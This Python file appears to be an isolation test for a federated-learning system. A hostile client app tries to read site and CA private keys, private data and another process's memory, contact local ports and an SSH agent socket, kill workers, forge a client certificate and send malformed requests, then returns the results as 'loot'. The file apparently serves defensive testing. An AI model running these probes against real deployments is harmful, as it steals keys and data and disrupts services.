"""Tries, inside a site's SuperNode, everything that foreign code might try."""

import datetime as dt
import json
import os
import signal
import socket
import struct
from pathlib import Path

import grpc
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

import client_app

app = ClientApp()


def attempt(action):
    """The result: the error's name, or a bit of the loot."""
    try:
        return str(action())[:200]
    except grpc.RpcError as error:
        return error.code().name
    except Exception as error:
        return type(error).__name__


@app.train()
def train(message, context):
    facts = {k: json.loads(v) for k, v in message.content.config_records["facts"].items()}
    private, worker = Path(facts["private"]), str(context.node_config["worker"])
    site = private / "sites" / Path(worker).name
    loot = {
        "whose": client_app.WHOSE,
        "listed": attempt(lambda: list(os.scandir(private))),
        "key": attempt(lambda: (site / "key.pem").read_text()),
        "authority": attempt(lambda: (private.parents[2] / "pki" / "ca.key").read_text()),
        "data": attempt(lambda: (site / "data" / "records.csv").read_text()),
        "memory": attempt(lambda: read_memory(worker)),
        "environment": " ".join(sorted(os.environ)),
        "metrics": attempt(lambda: call(facts["metrics"])),
        "port": attempt(lambda: call(facts["port"])),
        "multipath": attempt(lambda: call(facts["port"], socket.IPPROTO_MPTCP)),
        "agent": attempt(lambda: call_agent(facts["agent"])),
        "kill": attempt(lambda: [os.kill(pid, signal.SIGKILL) for pid in facts["workers"]]),
        "bare": attempt(lambda: submit(facts["middleware"][0], grpc.ssl_channel_credentials(ca(context)))),
        "forged": attempt(lambda: submit(facts["middleware"][0], forged(context))),
        "nonsense": attempt(lambda: nonsense(worker)),
        "ticket": attempt(lambda: ticket(worker, facts["digest"])),
    }
    return Message(RecordDict({"loot": ConfigRecord(loot)}), reply_to=message)


def ca(context):
    """The authority's certificate is public: the SuperNode itself has it."""
    return (Path(os.environ["FLWR_HOME"]).parent / "ca.pem").read_bytes()


def read_memory(worker):
    """Read the worker's memory, which holds its keys."""
    for folder in Path("/proc").glob("[0-9]*"):
        line = (folder / "cmdline").read_bytes()
        if worker.encode() in line and b"client_app.worker" in line:
            return (folder / "mem").open("rb").read(1)
    raise FileNotFoundError(worker)


def call(port, protocol=0):
    """A TCP connection to another program of this machine."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, protocol) as connection:
        connection.settimeout(5)
        return connection.connect(("127.0.0.1", port))


def call_agent(path):
    """Ask an agent of the operator's, say the one with the SSH keys."""
    with socket.socket(socket.AF_UNIX) as connection:
        return connection.connect(path)


def forged(context):
    """A certificate in the site's name, issued by our own authority."""
    key, now = ec.generate_private_key(ec.SECP256R1()), dt.datetime.now(dt.UTC)
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "site-0")])
    uri = x509.UniformResourceIdentifier("fl-privacy://victim/site/site-0")
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([uri]), critical=False)
        .sign(key, hashes.SHA256())
    )
    pem = serialization.Encoding.PEM
    private = key.private_bytes(pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    return grpc.ssl_channel_credentials(ca(context), private, certificate.public_bytes(pem))


def submit(address, credentials):
    """Make any call to the middleware."""
    with grpc.secure_channel(address, credentials) as channel:
        return channel.stream_unary("/fl_privacy.wire.Middleware/Submit")(iter([b""]), timeout=5)


def ask(worker, data):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.settimeout(30)
        connection.connect(worker)
        connection.sendall(data)
        connection.shutdown(socket.SHUT_WR)
        answer = b""
        while piece := connection.recv(65536):
            answer += piece
    return answer


def nonsense(worker):
    return ask(worker, b"\xff" * 4096) or "closed"


def ticket(worker, digest):
    """A ticket for a run that nobody opened."""
    text = json.dumps({"run": "mine", "federation": digest, "first": 1, "last": 1}).encode()
    answer = ask(worker, struct.pack("!IQ", len(text), 0) + text)
    return json.loads(answer[12:])["status"]
